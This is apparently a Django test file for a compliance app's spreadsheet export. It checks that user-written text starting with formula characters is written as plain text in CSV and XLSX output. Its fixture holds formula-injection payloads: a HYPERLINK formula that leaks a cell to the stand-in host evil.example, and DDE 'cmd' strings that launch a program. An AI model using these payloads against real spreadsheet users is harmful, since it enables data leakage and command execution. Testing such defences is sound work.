"""Text people wrote never runs as a formula in a spreadsheet export: a cell starting with
'=', '+', '-' or '@' is written as text (CSV: with a leading apostrophe; XLSX: a text cell)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from coop.cleaning import spreadsheet_text
from coop.site.compliance.models import ExportFile, FollowUp
from coop.site.compliance.periods import Period
from coop.site.compliance.services import CommitmentTerms
from tests.compliance import rows

pytestmark = pytest.mark.django_db

FORMULAS = {
    "explanation": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "action": "+1+cmd|' /C calc'!A0",
    "resolution": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def follow_up(cast, agreement_for):
    version = agreement_for([CommitmentTerms(rule="vacant_days", threshold=10, at_risk_band=0)])
    rows.vacancy(cast.association, reported_on=timezone.localdate().replace(day=1))
    month = Period.containing("month", timezone.localdate())
    return FollowUp.objects.create(
        commitment=version.commitments.get(key="vacant-days"),
        period_start=month.start,
        period_end=month.end,
        explanation=FORMULAS["explanation"],
        action=FORMULAS["action"],
        resolution=FORMULAS["resolution"],
        resolved_at=timezone.now(),
        resolved_by=cast.corporation_staff,
        due_on=timezone.localdate() + dt.timedelta(days=30),
        recorded_by=cast.board,
    )


def _export(client, cast, capture, format: str) -> bytes:
    with capture(execute=True):
        client.post(
            reverse("compliance:export_start", args=[cast.association.slug]),
            {"format": format, "scope": "current"},
        )
    export = ExportFile.objects.order_by("-pk").first()
    response = client.get(reverse("compliance:export_download", args=[export.pk]))
    assert response.status_code == 200
    return response.content


def test_spreadsheet_text_quotes_what_would_run_as_a_formula():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("+31 6 1234") == "'+31 6 1234"
    assert spreadsheet_text("-2") == "'-2"
    assert spreadsheet_text("@x") == "'@x"
    assert spreadsheet_text("\tx") == "'\tx"
    assert spreadsheet_text("De lift") == "De lift"
    assert spreadsheet_text("") == ""


def test_the_csv_export_writes_formulas_as_text(
    cast, client_for, follow_up, django_capture_on_commit_callbacks
):
    content = _export(
        client_for("corporation_staff"), cast, django_capture_on_commit_callbacks, "csv"
    )
    cells = [
        c
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        for c in row
    ]
    for text in FORMULAS.values():
        assert "'" + text in cells
        assert text not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_the_xlsx_export_writes_formulas_as_text(
    cast, client_for, follow_up, django_capture_on_commit_callbacks
):
    content = _export(
        client_for("corporation_staff"), cast, django_capture_on_commit_callbacks, "xlsx"
    )
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in FORMULAS.values():
                    found[cell.value] = cell
    # Shown exactly as written, as text.
    assert set(found) == set(FORMULAS.values())
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found.values())
